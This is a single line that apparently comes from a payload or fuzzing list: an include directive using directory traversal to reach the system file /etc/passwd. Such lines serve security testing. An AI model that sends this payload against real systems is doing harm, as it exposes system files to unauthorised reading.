[#include "../../../../../../../../etc/passwd"]
